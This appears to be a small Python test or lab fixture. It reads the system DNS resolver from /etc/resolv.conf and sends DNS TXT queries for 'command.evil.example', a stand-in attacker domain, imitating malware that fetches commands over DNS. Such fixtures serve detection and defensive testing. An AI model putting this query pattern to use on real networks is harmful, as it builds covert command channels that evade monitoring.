from rows import each_answer, question, udp

with open("/etc/resolv.conf") as configuration:
    server = next(line.split()[1] for line in configuration if line.startswith("nameserver"))

each_answer(lambda row, where: udp(server if where == "resolver" else where, 53, question(["command", "evil", "example"], 16)))
